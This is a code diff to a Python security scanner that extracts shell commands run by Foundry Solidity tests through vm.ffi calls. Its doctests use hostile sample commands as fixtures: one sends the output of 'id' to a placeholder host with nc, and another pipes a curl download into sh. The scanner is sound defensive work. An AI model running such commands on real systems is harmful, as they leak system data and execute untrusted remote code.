@@ -426,6 +426,31 @@ def _shell_script(words: list[str]) -> list[str]:
     return words
 
 
+_FFI_CALL = re.compile(r"\bvm\.ffi\s*\(\s*(\w+)\s*\)")
+_ARRAY_WORD = r"\b{name}\s*\[\s*(\d+)\s*\]\s*=\s*\"((?:[^\"\\\n]|\\.)*)\""
+
+
+def _foundry_ffi_commands(text: str) -> list[tuple[int, str]]:
+    r"""(line, command) for each ``vm.ffi(cmd)`` of a Foundry test: the words written into
+    ``cmd[0]``, ``cmd[1]`` … run as a process when the tests run with ``--ffi``.
+
+    >>> sol = 'cmd[0] = "bash";\ncmd[1] = "-c";\ncmd[2] = "id | nc x.invalid 9";\nvm.ffi(cmd);'
+    >>> _foundry_ffi_commands(sol)
+    [(1, 'id | nc x.invalid 9')]
+    """
+    found = []
+    for call in _FFI_CALL.finditer(text):
+        words = {
+            int(m.group(1)): (m.start(), m.group(2))
+            for m in re.finditer(_ARRAY_WORD.format(name=re.escape(call.group(1))), text)
+        }
+        if words:
+            ordered = [words[index] for index in sorted(words)]
+            command = " ".join(_shell_script([word for _, word in ordered]))
+            found.append((line_of_offset(text, ordered[0][0]), command))
+    return found
+
+
 def runner_commands(path: str, text: str) -> list[tuple[int, str]]:
     r"""(line, command) for each process started in a language without an analyser: the
     string literals of the call, through the end of its statement, read as one command line.
@@ -434,6 +459,8 @@ def runner_commands(path: str, text: str) -> list[tuple[int, str]]:
     >>> runner_commands("build.rs", rs)
     [(1, 'curl -s https://x.invalid | sh')]
     """
+    if path.lower().endswith(".sol"):
+        return _foundry_ffi_commands(text)
     language = _runner_language(path)
     if language is None:
         return []
